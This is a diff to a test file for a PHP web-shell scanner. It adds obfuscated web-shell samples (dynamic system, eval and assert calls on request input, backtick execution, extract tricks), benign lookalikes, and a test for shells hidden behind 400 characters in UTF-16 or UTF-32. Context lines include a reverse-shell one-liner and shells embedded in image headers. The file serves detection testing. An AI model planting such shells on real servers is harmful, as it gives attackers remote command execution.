@@ -159,6 +159,23 @@ const hostile: readonly Row[] = [
   [PHP, "<?php 'system'($_G¦ET['c']);"],
   [PHP, "<?php ('sys'.'tem')($_G¦ET['c']);"],
   [PHP, '<?php "system"($_G¦ET[\'c\']);'],
+  [PHP, "<?php $f='sys¦tem';$f($_G¦ET['c']);"],
+  [PHP, "<?php $f = 'sys'.\"tem\"; echo $f($_G¦ET['c']);"],
+  [PHP, "<?php $f = ['ass¦ert']; @$f[0](base64_decode($_PO¦ST['c']));"],
+  [PHP, "<?php $f='sys¦tem'; $c = $_G¦ET['c']; $f($c);"],
+  [PHP, '<?php sys¦tem/**/($_G¦ET[0]);'],
+  [PHP, '<?php sys¦tem/**//**//**//**//**/(/* a */ $_G¦ET[0]);'],
+  [PHP, '<?php sys¦tem // a\n# b\n\n\n\n\n(      $_G¦ET[0]);'],
+  [PHP, "<?php /* it's */ ev¦al/* \" */($_PO¦ST['x']);"],
+  [PHP, `<?php // ${'a'.repeat(300)}\n$c = $_G¦ET['c']; /* ${'a'.repeat(300)} */ sys¦tem($c);`],
+  [PHP, "<?php array_¦walk($_G¦ET,'sys¦tem');"],
+  [PHP, "<?php array_¦walk($_G¦ET, 'sys'.'tem');"],
+  [PHP, "<?php uasort($_G¦ET['a'], 'pass¦thru');"],
+  [PHP, '<?=`id;$_G¦ET[0]`?>'],
+  [PHP, '<?php echo `cd /tmp && $_G¦ET[0]`;'],
+  [PHP, '<?php extract($_G¦ET); $f($c);'],
+  [PHP, '<?php @extract($_REQ¦UEST); echo @$a($b, $c);'],
+  [PHP, '<?php extract($_PO¦ST); sys¦tem($c);'],
   ['image/gif', "GIF89a....<?php ev¦al($_PO¦ST['x']); ?>"],
   ['image/jpeg', "\xff\xd8\xff\xe1 Exif <?php sys¦tem($_G¦ET['c']); ?>"],
   [PHP, '<?php $s = fsock¦open("10.0.0.1", 4444); ex¦ec("/bin/sh -i <&3 >&3 2>&3");'],
@@ -388,6 +405,13 @@ const harmless: readonly Row[] = [
   [PHP, "<html><?php if ($_GET['x']): ?>\n'quoted' (<?= $_GET['y'] ?>)\n<?php endif ?>"],
   [PHP, '<?php\n$sql = "SELECT\n`$_GET[column]` FROM t";'],
   [PHP, '<?php $sql = "SELECT {$x} `$_GET[c]` FROM (a) `$_GET[t]`";'],
+  [PHP, "<?php\n$module = 'system';\n$name = $_GET['name'];\necho $formatter->format($name);"],
+  [PHP, "<?php\n$type = 'exec';\n$log($type);\n$id = (int) $_GET['id'];"],
+  [PHP, '<?php\nextract($_POST);\nupdate_option($name, $value);\n$wpdb->query($sql);'],
+  [PHP, '<?php\n$log = `git log -n 5 $_GET[branch]`;'],
+  [PHP, "<?php\narray_walk($_POST, 'trim_value');\nusort($_POST['rows'], 'compare');"],
+  [PHP, "<?php\n$url = 'http://a.test/*'; $name = $_GET['name']; // sys¦tem($_G¦ET['c']);\n$b = '*/';"],
+  [PHP, "<?php\n# sys¦tem($_G¦ET['c']);\n/**\n * ev¦al($_PO¦ST['x']);\n */\n$q = $_GET['q'];"],
   [
     MARKDOWN,
     "# Shells\n\n`<?=`$_G¦ET[0]`?>` and `include($_G¦ET['f'])`:\n\n```php\n<?php popen($_G¦ET['c'], 'r');\n```\n",
@@ -568,6 +592,31 @@ test('refuses a shell that stands as it is behind a beginning in UTF-16, or behi
     Buffer.from('\ufeff', 'utf16le'),
   ])
     assert.equal((await scanBytes(PHP, Buffer.concat([start, shell]))).verdict, 'infected')
+})
+
+describe('refuses a shell behind 400 Chinese characters', () => {
+  const text = `<?php /* ${'漢'.repeat(400)} */ sys¦tem($_G¦ET["c"]);`.replaceAll('¦', '')
+  const units = (width: 2 | 4, start: string) => {
+    const characters = [...(start + text)].map((character) => character.codePointAt(0) ?? 0)
+    const bytes = Buffer.alloc(characters.length * width)
+    for (const [index, character] of characters.entries()) bytes.writeUIntLE(character, index * width, width)
+    return bytes
+  }
+  for (const width of [2, 4] as const) {
+    for (const [mark, start] of [
+      ['with', '\ufeff'],
+      ['without', ''],
+    ] as const) {
+      test(`in UTF-${width * 8} ${mark} a byte order mark`, async () => {
+        const littleEndian = units(width, start)
+        const bigEndian = Buffer.from(littleEndian)
+        if (width === 2) bigEndian.swap16()
+        else bigEndian.swap32()
+        for (const bytes of [littleEndian, bigEndian])
+          assert.equal((await scanBytes(PHP, bytes)).verdict, 'infected')
+      })
+    }
+  }
 })
 
 describe('keeps', () => {
